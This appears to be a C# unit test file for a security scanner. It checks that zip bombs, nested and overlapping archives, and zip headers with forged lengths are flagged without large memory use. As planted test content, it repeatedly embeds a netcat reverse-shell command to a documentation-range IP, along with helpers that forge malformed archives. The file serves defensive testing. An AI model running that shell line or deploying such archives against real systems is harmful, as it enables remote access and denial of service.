using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Symbiont.Scanning.Tests.Files;

namespace Symbiont.Scanning.Tests.Archives;

/// <summary>Small archives that unpack to very much: what is said of them, and how much memory they take.</summary>
public sealed class BombTests : IDisposable
{
    private const int MiB = 1 << 20;

    /// <summary>All that a bomb may have allocated over the whole scan: a buffer for a member, and what is said of it.</summary>
    private const long MostAllocated = 128L * MiB;

    private static readonly byte[] Zeros = new byte[MiB];

    private readonly SkillFolder folder = new();

    [Fact]
    public void A_gigabyte_of_zeros_is_cut_and_said_and_never_held()
    {
        folder.With("bomb.zip", Zip(("zeros.bin", 1024)));

        var (findings, allocated) = Scan();

        Assert.Contains(findings, finding => finding is { Rule: "scan-size-limit", File: "bomb.zip!/zeros.bin", Severity: Severity.High });
        Assert.InRange(allocated, 0, MostAllocated);
    }

    [Fact]
    public void Many_large_members_use_one_buffer_one_after_the_other()
    {
        folder.With("bomb.zip", Zip([.. Enumerable.Range(0, 12).Select(i => ($"{i}.bin", 64))]));

        var (findings, allocated) = Scan();

        Assert.Contains(findings, finding => finding is { Rule: "scan-size-limit", File: "bomb.zip", Severity: Severity.High });
        Assert.InRange(allocated, 0, MostAllocated);
    }

    [Fact]
    public void Bombs_within_each_other_are_opened_to_the_depth_that_there_is_room_for()
    {
        var inner = Zip(("zeros.bin", 256));
        for (var i = 0; i < 6; i++)
            inner = Zip(CompressionLevel.NoCompression, ("inner.zip", [.. inner, .. new byte[20 * MiB]]));
        folder.With("bomb.zip", inner);

        var (findings, allocated) = Scan();

        Assert.Contains(findings, finding => finding.Rule is "scan-size-limit" or "scan-depth-limit" && finding.Severity == Severity.High);
        Assert.InRange(allocated, 0, 2 * MostAllocated);
    }

    [Fact]
    public void More_members_than_are_looked_at_are_a_finding()
    {
        folder.With("many.zip", Zip(CompressionLevel.NoCompression, [.. Enumerable.Range(0, 20_001).Select(i => ($"{i}", "x"u8.ToArray()))]));

        Assert.Contains(Scan().Findings, finding => finding is { Rule: "scan-size-limit", File: "many.zip", Severity: Severity.High });
    }

    [Fact]
    public void Members_that_share_their_bytes_count_as_often_as_they_are_named()
    {
        folder.With("shared.zip", Shared(Zip(("0000.bin", 32)), 64));

        var (findings, allocated) = Scan();

        Assert.Contains(findings, finding => finding is { Rule: "scan-size-limit" or "broken-archive", File: "shared.zip" } && finding.Severity >= Severity.Medium);
        Assert.InRange(allocated, 0, MostAllocated);
    }

    [Theory]
    [InlineData(uint.MaxValue - 1)]
    [InlineData(700_000_000)]
    public void A_header_that_promises_too_much_gets_no_room_for_it(uint promised)
    {
        folder.With("lie.zip", Promising(Zip(CompressionLevel.Optimal, ("a.sh", Encoding.UTF8.GetBytes("nc -e /bin/sh 203.0.113.9 1\n"))), promised));

        var (findings, allocated) = Scan();

        Assert.Contains(findings, finding => finding.File.StartsWith("lie.zip", StringComparison.Ordinal) && finding.Severity >= Severity.Medium);
        Assert.InRange(allocated, 0, MostAllocated / 2);
    }

    [Fact]
    public void A_header_that_promises_too_little_hides_nothing()
    {
        var shell = string.Concat(Enumerable.Repeat("# nothing to see\n", 1000)) + "nc -e /bin/sh 203.0.113.9 1\n";
        folder.With("lie.zip", Promising(Zip(CompressionLevel.Optimal, ("a.sh", Encoding.UTF8.GetBytes(shell))), 10));

        Assert.Contains(Scan().Findings, finding => finding.File.StartsWith("lie.zip", StringComparison.Ordinal) && finding.Severity >= Severity.High);
    }

    [Fact]
    public void A_packed_text_of_any_length_is_read_in_pieces()
    {
        var lines = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("a line of words that means nothing at all\n", 4 * MiB / 42)) + "nc -e /bin/sh 203.0.113.9 1\n");
        folder.With("log.zip", Zip(CompressionLevel.Optimal, ("run.sh", lines)));

        var found = Assert.Single(Scan().Findings, finding => finding.Rule == "code-reverse-shell");

        Assert.Equal(4 * MiB / 42 + 1, found.Line);
    }

    public void Dispose() => folder.Dispose();

    private (IReadOnlyList<Finding> Findings, long Allocated) Scan()
    {
        // The expressions that a scan builds when it is the first belong to no bomb.
        _ = new SkillScanner().ScanText("nc -e /bin/sh 203.0.113.9 1", "a.sh");
        var before = GC.GetAllocatedBytesForCurrentThread();
        var findings = folder.Scan();
        return (findings, GC.GetAllocatedBytesForCurrentThread() - before);
    }

    private static byte[] Zip(params (string Name, int Megabytes)[] members)
    {
        using var into = new MemoryStream();
        using (var zip = new ZipArchive(into, ZipArchiveMode.Create))
        {
            foreach (var (name, megabytes) in members)
            {
                using var entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                for (var i = 0; i < megabytes; i++)
                    entry.Write(Zeros);
            }
        }

        return into.ToArray();
    }

    private static byte[] Zip(CompressionLevel level, params (string Name, byte[] Content)[] members)
    {
        using var into = new MemoryStream();
        using (var zip = new ZipArchive(into, ZipArchiveMode.Create))
        {
            foreach (var (name, content) in members)
            {
                using var entry = zip.CreateEntry(name, level).Open();
                entry.Write(content);
            }
        }

        return into.ToArray();
    }

    /// <summary>The first entry of the directory so many times, each under a name of its own and with the same bytes.</summary>
    private static byte[] Shared(byte[] zip, int times)
    {
        var end = zip.AsSpan().LastIndexOf("PK\x05\x06"u8);
        var directory = zip.AsSpan().LastIndexOf("PK\x01\x02"u8);
        var entry = zip[directory..end];
        var shared = new List<byte>(zip[..directory]);
        for (var i = 0; i < times; i++)
        {
            // The name stands behind 46 bytes.
            Encoding.ASCII.GetBytes($"{i:D4}").CopyTo(entry, 46);
            shared.AddRange(entry);
        }

        var tail = zip[end..];
        BinaryPrimitives.WriteUInt16LittleEndian(tail.AsSpan(8), (ushort)times);
        BinaryPrimitives.WriteUInt16LittleEndian(tail.AsSpan(10), (ushort)times);
        BinaryPrimitives.WriteUInt32LittleEndian(tail.AsSpan(12), (uint)(entry.Length * times));
        shared.AddRange(tail);
        return [.. shared];
    }

    /// <summary>The directory says another length than there is.</summary>
    private static byte[] Promising(byte[] zip, uint length)
    {
        BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(zip.AsSpan().LastIndexOf("PK\x01\x02"u8) + 24), length);
        return zip;
    }
}
